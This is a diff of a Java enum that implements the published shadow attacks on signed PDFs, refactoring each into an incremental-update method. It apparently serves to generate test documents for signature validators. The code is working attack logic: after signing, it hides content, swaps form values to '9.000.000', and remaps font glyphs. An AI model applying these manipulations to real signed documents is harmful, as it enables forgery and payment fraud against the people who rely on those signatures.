@@ -5,7 +5,6 @@ import com.itextpdf.forms.fields.PdfFormField;
 import com.itextpdf.forms.fields.TextFormFieldBuilder;
 import com.itextpdf.io.font.constants.StandardFonts;
 import com.itextpdf.kernel.colors.ColorConstants;
-import com.itextpdf.kernel.font.PdfFont;
 import com.itextpdf.kernel.font.PdfFontFactory;
 import com.itextpdf.kernel.geom.Rectangle;
 import com.itextpdf.kernel.pdf.PdfArray;
@@ -15,19 +14,17 @@ import com.itextpdf.kernel.pdf.PdfName;
 import com.itextpdf.kernel.pdf.PdfNumber;
 import com.itextpdf.kernel.pdf.PdfObject;
 import com.itextpdf.kernel.pdf.PdfPage;
-import com.itextpdf.kernel.pdf.PdfReader;
 import com.itextpdf.kernel.pdf.PdfStream;
 import com.itextpdf.kernel.pdf.PdfWriter;
-import com.itextpdf.kernel.pdf.StampingProperties;
 import com.itextpdf.kernel.pdf.annot.PdfAnnotation;
 import com.itextpdf.kernel.pdf.annot.PdfSquareAnnotation;
 import com.itextpdf.kernel.pdf.canvas.PdfCanvas;
 import com.itextpdf.kernel.pdf.layer.PdfLayer;
 import com.itextpdf.kernel.pdf.xobject.PdfFormXObject;
-import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
+import java.util.List;
 
 /**
  * The published shadow attack classes on signed PDFs (Mainka, Mladenov, Rohlmann: "Shadow
@@ -52,10 +49,12 @@ enum ShadowAttack {
     }
 
     @Override
-    void manipulate(PdfDocument pdf) {
-      PdfPage page = pdf.getPage(1);
-      page.getPdfObject().getAsArray(PdfName.Annots).remove(0);
-      page.getPdfObject().setModified();
+    byte[] update(byte[] signed) throws IOException {
+      return IncrementalUpdate.appended(signed, pdf -> {
+        PdfPage page = pdf.getPage(1);
+        page.getPdfObject().getAsArray(PdfName.Annots).remove(0);
+        page.getPdfObject().setModified();
+      });
     }
   },
   HIDE_VIA_OVERWRITE(ChangeClass.RESOURCE) {
@@ -67,10 +66,12 @@ enum ShadowAttack {
     }
 
     @Override
-    void manipulate(PdfDocument pdf) {
-      PdfStream cover = firstXObject(pdf.getPage(1));
-      cover.setData(new byte[0]);
-      cover.setModified();
+    byte[] update(byte[] signed) throws IOException {
+      return IncrementalUpdate.appended(signed, pdf -> {
+        PdfStream cover = firstXObject(pdf.getPage(1));
+        cover.setData(new byte[0]);
+        cover.setModified();
+      });
     }
   },
   /** On the last of twelve pages: validators that render the first ten pages only miss it. */
@@ -84,14 +85,16 @@ enum ShadowAttack {
     }
 
     @Override
-    void manipulate(PdfDocument pdf) {
-      PdfPage page = pdf.getPage(12);
-      PdfDictionary xobjects = page.getPdfObject().getAsDictionary(PdfName.Resources)
-          .getAsDictionary(PdfName.XObject);
-      PdfName name = xobjects.keySet().iterator().next();
-      PdfFormXObject empty = new PdfFormXObject(COVER);
-      xobjects.put(name, empty.getPdfObject().makeIndirect(pdf));
-      page.getPdfObject().getAsDictionary(PdfName.Resources).setModified();
+    byte[] update(byte[] signed) throws IOException {
+      return IncrementalUpdate.appended(signed, pdf -> {
+        PdfPage page = pdf.getPage(12);
+        PdfDictionary xobjects = page.getPdfObject().getAsDictionary(PdfName.Resources)
+            .getAsDictionary(PdfName.XObject);
+        PdfName name = xobjects.keySet().iterator().next();
+        PdfFormXObject empty = new PdfFormXObject(COVER);
+        xobjects.put(name, empty.getPdfObject().makeIndirect(pdf));
+        page.getPdfObject().getAsDictionary(PdfName.Resources).setModified();
+      });
     }
   },
   HIDE_VIA_FORM(ChangeClass.FORM_FIELD) {
@@ -108,12 +111,14 @@ enum ShadowAttack {
     }
 
     @Override
-    void manipulate(PdfDocument pdf) {
-      PdfFormField field = PdfAcroForm.getAcroForm(pdf, false).getField("ghi_chu");
-      PdfAnnotation widget = field.getWidgets().get(0);
-      widget.setNormalAppearance(new PdfFormXObject(COVER).getPdfObject());
-      widget.setFlags(PdfAnnotation.PRINT | PdfAnnotation.HIDDEN);
-      widget.getPdfObject().setModified();
+    byte[] update(byte[] signed) throws IOException {
+      return IncrementalUpdate.appended(signed, pdf -> {
+        PdfFormField field = PdfAcroForm.getAcroForm(pdf, false).getField("ghi_chu");
+        PdfAnnotation widget = field.getWidgets().get(0);
+        widget.setNormalAppearance(new PdfFormXObject(COVER).getPdfObject());
+        widget.setFlags(PdfAnnotation.PRINT | PdfAnnotation.HIDDEN);
+        widget.getPdfObject().setModified();
+      });
     }
   },
   HIDE_VIA_OPTIONAL_CONTENT(ChangeClass.OPTIONAL_CONTENT) {
@@ -128,13 +133,15 @@ enum ShadowAttack {
     }
 
     @Override
-    void manipulate(PdfDocument pdf) {
-      PdfDictionary defaults = pdf.getCatalog().getPdfObject()
-          .getAsDictionary(PdfName.OCProperties).getAsDictionary(PdfName.D);
-      defaults.put(PdfName.OFF, new PdfArray());
-      pdf.getCatalog().getPdfObject().getAsDictionary(PdfName.OCProperties).setModified();
-      defaults.setModified();
-      pdf.getCatalog().getPdfObject().setModified();
+    byte[] update(byte[] signed) throws IOException {
+      return IncrementalUpdate.appended(signed, pdf -> {
+        PdfDictionary defaults = pdf.getCatalog().getPdfObject()
+            .getAsDictionary(PdfName.OCProperties).getAsDictionary(PdfName.D);
+        defaults.put(PdfName.OFF, new PdfArray());
+        pdf.getCatalog().getPdfObject().getAsDictionary(PdfName.OCProperties).setModified();
+        defaults.setModified();
+        pdf.getCatalog().getPdfObject().setModified();
+      });
     }
   },
   REPLACE_VIA_OVERLAY_FORM(ChangeClass.FORM_FIELD) {
@@ -149,8 +156,10 @@ enum ShadowAttack {
     }
 
     @Override
-    void manipulate(PdfDocument pdf) {
-      PdfAcroForm.getAcroForm(pdf, false).getField("so_tien").setValue("9.000.000");
+    byte[] update(byte[] signed) throws IOException {
+      return IncrementalUpdate.appended(signed, pdf -> {
+        PdfAcroForm.getAcroForm(pdf, false).getField("so_tien").setValue("9.000.000");
+      });
     }
   },
   REPLACE_VIA_OVERWRITE_FONT(ChangeClass.RESOURCE) {
@@ -160,7 +169,7 @@ enum ShadowAttack {
       // The amount in a font whose code for '1' is the glyph "one": until its encoding changes.
       PdfDictionary differences = new PdfDictionary();
       differences.put(PdfName.Type, PdfName.Encoding);
-      differences.put(PdfName.Differences, new PdfArray(java.util.List.of(new PdfNumber('1'),
+      differences.put(PdfName.Differences, new PdfArray(List.of(new PdfNumber('1'),
           new PdfName("one"))));
       differences.makeIndirect(pdf);
       PdfDictionary font = new PdfDictionary();
@@ -178,17 +187,19 @@ enum ShadowAttack {
     }
 
     @Override
-    void manipulate(PdfDocument pdf) {
-      for (PdfName name : pdf.getPage(1).getResources().getResourceNames(PdfName.Font)) {
-        PdfDictionary font = pdf.getPage(1).getResources().getResource(PdfName.Font)
-            .getAsDictionary(name);
-        PdfDictionary encoding = font.getAsDictionary(PdfName.Encoding);
-        if (encoding != null) {
-          encoding.put(PdfName.Differences, new PdfArray(java.util.List.of(
-              new PdfNumber('1'), new PdfName("nine"))));
-          encoding.setModified();
+    byte[] update(byte[] signed) throws IOException {
+      return IncrementalUpdate.appended(signed, pdf -> {
+        for (PdfName name : pdf.getPage(1).getResources().getResourceNames(PdfName.Font)) {
+          PdfDictionary font = pdf.getPage(1).getResources().getResource(PdfName.Font)
+              .getAsDictionary(name);
+          PdfDictionary encoding = font.getAsDictionary(PdfName.Encoding);
+          if (encoding != null) {
+            encoding.put(PdfName.Differences, new PdfArray(List.of(
+                new PdfNumber('1'), new PdfName("nine"))));
+            encoding.setModified();
+          }
         }
-      }
+      });
     }
   },
   REPLACE_VIA_REFERENCED_FORM_XOBJECT(ChangeClass.RESOURCE) {
@@ -201,13 +212,15 @@ enum ShadowAttack {
     }
 
     @Override
-    void manipulate(PdfDocument pdf) throws IOException {
-      PdfStream amount = firstXObject(pdf.getPage(1));
-      PdfFormXObject replacement = new PdfFormXObject(new Rectangle(AMOUNT.getWidth(), 30));
-      text(new PdfCanvas(replacement, pdf), "9.000.000", 2, 8);
-      amount.setData(replacement.getPdfObject().getBytes());
-      amount.put(PdfName.Resources, replacement.getResources().getPdfObject());
-      amount.setModified();
+    byte[] update(byte[] signed) throws IOException {
+      return IncrementalUpdate.appended(signed, pdf -> {
+        PdfStream amount = firstXObject(pdf.getPage(1));
+        PdfFormXObject replacement = new PdfFormXObject(new Rectangle(AMOUNT.getWidth(), 30));
+        text(new PdfCanvas(replacement, pdf), "9.000.000", 2, 8);
+        amount.setData(replacement.getPdfObject().getBytes());
+        amount.put(PdfName.Resources, replacement.getResources().getPdfObject());
+        amount.setModified();
+      });
     }
   },
   HIDE_AND_REPLACE_VIA_NEW_CATALOG(ChangeClass.PAGE_CONTENT) {
@@ -251,20 +264,8 @@ enum ShadowAttack {
   /** Makes the shadow document the victim signs. */
   abstract void prepare(PdfDocument pdf) throws IOException;
 
-  /** The change an attacker makes after signing, through iText in append mode. */
-  void manipulate(PdfDocument pdf) throws IOException {
-    throw new UnsupportedOperationException(name() + " writes its update itself");
-  }
-
   /** The signed file with the attacker's incremental update appended. */
-  byte[] update(byte[] signed) throws IOException {
-    ByteArrayOutputStream out = new ByteArrayOutputStream();
-    try (PdfDocument pdf = new PdfDocument(new PdfReader(new ByteArrayInputStream(signed)),
-        new PdfWriter(out), new StampingProperties().useAppendMode())) {
-      manipulate(pdf);
-    }
-    return out.toByteArray();
-  }
+  abstract byte[] update(byte[] signed) throws IOException;
 
   /** The shadow document, unsigned. */
   byte[] shadowDocument() throws IOException {
